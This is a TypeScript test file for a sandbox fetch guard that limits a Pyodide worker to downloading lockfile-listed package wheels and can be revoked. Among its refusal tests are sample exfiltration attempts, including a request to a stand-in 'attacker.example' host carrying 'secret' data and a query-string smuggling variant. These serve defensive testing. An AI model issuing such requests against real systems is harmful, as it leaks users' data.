import { describe, expect, test } from 'vitest';
import { guardedFetch } from '../../../src/sandbox/worker/guarded-fetch';

const BASE = 'https://cdn.example/pyodide/v1/full/';
const PACKAGES = { numpy: { file_name: 'numpy-2.4.6-cp314-wasm32.whl' } };

/** A stand-in for the worker's real fetch (the edge: no network here) that records each call. */
function recordingFetch(): { fetch: typeof fetch; calls: { url: string; init: RequestInit | undefined }[] } {
  const calls: { url: string; init: RequestInit | undefined }[] = [];
  const fetchDouble = (async (input: RequestInfo | URL, init?: RequestInit) => {
    calls.push({ url: String(input), init });
    return new Response('wheel');
  }) as typeof fetch;
  return { fetch: fetchDouble, calls };
}

describe('guardedFetch', () => {
  describe('should fetch for the package loader', () => {
    test("for a file Pyodide's lockfile names under the online-packages URL, keeping only its integrity", async () => {
      const real = recordingFetch();
      const lent = guardedFetch(real.fetch, BASE, PACKAGES);
      await lent.fetch(`${BASE}numpy-2.4.6-cp314-wasm32.whl`, { method: 'POST', body: 'secret', integrity: 'sha256-x' });
      expect(real.calls).toEqual([{ url: `${BASE}numpy-2.4.6-cp314-wasm32.whl`, init: { integrity: 'sha256-x' } }]);
    });
  });

  describe('should refuse without calling the real fetch', () => {
    test('for any other URL, on the same host or another', async () => {
      const real = recordingFetch();
      const lent = guardedFetch(real.fetch, BASE, PACKAGES);
      await expect(lent.fetch(`${BASE}evil.whl`)).rejects.toThrow(/only package files/);
      await expect(lent.fetch('https://attacker.example/?data=secret')).rejects.toThrow(/only package files/);
      await expect(lent.fetch(`${BASE}numpy-2.4.6-cp314-wasm32.whl?x=secret`)).rejects.toThrow(/only package files/);
      expect(real.calls).toEqual([]);
    });

    test('for the allowed file once the loan is revoked, even through a reference kept from before', async () => {
      const real = recordingFetch();
      const lent = guardedFetch(real.fetch, BASE, PACKAGES);
      const kept = lent.fetch;
      lent.revoke();
      await expect(kept(`${BASE}numpy-2.4.6-cp314-wasm32.whl`)).rejects.toThrow(/only package files/);
      expect(real.calls).toEqual([]);
    });
  });
});
